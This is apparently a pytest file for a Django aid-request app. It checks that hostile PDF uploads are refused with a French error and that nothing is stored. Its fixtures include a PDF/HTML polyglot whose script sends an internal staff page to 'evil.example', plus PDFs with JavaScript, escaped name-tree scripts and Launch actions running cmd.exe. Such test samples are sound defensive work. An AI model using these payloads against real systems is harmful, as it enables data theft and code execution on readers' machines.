"""Hostile uploads (aid documents, and every upload through imtsocial.uploads): names
with nothing usable, polyglots, PDFs with JavaScript or launch actions. Each one gets a
French message next to the field, and nothing is saved."""

import html

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from imtsocial.uploads import PDF, checked_upload
from social_action.models import AidDocument, AidRequest
from tests.pdfs import PDF_BYTES, pdf_with
from tests.social_action.test_views import _cesu_data, _new_url, employee  # noqa: F401

pytestmark = pytest.mark.django_db

POLYGLOT = (
    b"%PDF-1.4\n<html><body><script>fetch('/rh/agents/').then(r=>r.text())"
    b".then(t=>navigator.sendBeacon('https://evil.example',t))</script></body></html>\n%%EOF\n"
)
JAVASCRIPT = pdf_with("/OpenAction 4 0 R", "<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>")
LAUNCH = pdf_with(
    "/OpenAction 4 0 R", "<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>"
)
# the JavaScript in the document's name tree, its name written with a « # » escape
NAMED_JS = pdf_with(
    "/Names << /J#61vaScript 4 0 R >>",
    "<< /Names [(x) 5 0 R] >>",
    "<< /S /JavaScript /JS (this.exportDataObject({cName: 'a'})) >>",
)
# a page whose link annotation launches a program
ANNOTATION = pdf_with(
    "",
    "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /F (calc.exe) >> >>",
    page_extra="/Annots [4 0 R]",
)


def post_documents(client, employee, *uploads):  # noqa: F811
    client.force_login(employee)
    response = client.post(
        _new_url("cesu-garde"), _cesu_data(action="submit", documents=list(uploads))
    )
    return response, html.unescape(response.content.decode())


def test_a_name_with_nothing_usable_is_stored_as_document(client, employee):  # noqa: F811
    response, _text = post_documents(
        client,
        employee,
        SimpleUploadedFile(".pdf", PDF_BYTES),
        SimpleUploadedFile("€€€.pdf", PDF_BYTES),
        SimpleUploadedFile("€€€", PDF_BYTES),
    )
    assert response.status_code == 302  # never a 400
    names = sorted(AidDocument.objects.values_list("original_name", flat=True))
    assert names == ["document.pdf"] * 3
    for document in AidDocument.objects.all():
        assert document.file.name.endswith("_document.pdf")


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("devis.pdf", POLYGLOT, "« devis.pdf » n'est pas un PDF bien formé"),
        ("devis.pdf", b"%PDF-1.4\n" + b"\x00" * 200, "« devis.pdf » n'est pas un PDF bien formé"),
        ("avis.pdf", JAVASCRIPT, "« avis.pdf » contient du contenu actif (JavaScript ou"),
        ("avis.pdf", LAUNCH, "« avis.pdf » contient du contenu actif"),
        ("avis.pdf", NAMED_JS, "« avis.pdf » contient du contenu actif"),
        ("avis.pdf", ANNOTATION, "« avis.pdf » contient du contenu actif"),
        ("€€€.pdf", POLYGLOT, "« €€€.pdf » n'est pas un PDF bien formé"),
    ],
)
def test_a_hostile_pdf_is_refused_next_to_the_field_and_nothing_is_saved(
    client,
    employee,  # noqa: F811
    name,
    content,
    message,
):
    response, text = post_documents(client, employee, SimpleUploadedFile(name, content))
    assert response.status_code == 200
    assert message in text
    form = response.context["form"]
    assert any(message in error for error in form.errors["documents"])
    assert not AidRequest.objects.exists() and not AidDocument.objects.exists()


def test_the_hostile_pdfs_are_well_formed_but_for_their_active_content():
    """The refusals above are for the content: the same files without it pass."""
    for content in (
        pdf_with(""),
        pdf_with("/OpenAction 4 0 R", "<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>"),
    ):
        upload = checked_upload(
            SimpleUploadedFile("ok.pdf", content), limit=10**6, kinds=(PDF,), kinds_label="PDF"
        )
        assert upload.safe_name == "ok.pdf"


def test_every_upload_of_the_kit_refuses_a_pdf_with_javascript():
    with pytest.raises(ValidationError) as refused:
        checked_upload(
            SimpleUploadedFile("pv.pdf", JAVASCRIPT), limit=10**6, kinds=(PDF,), kinds_label="PDF"
        )
    assert refused.value.code == "pdf_active"
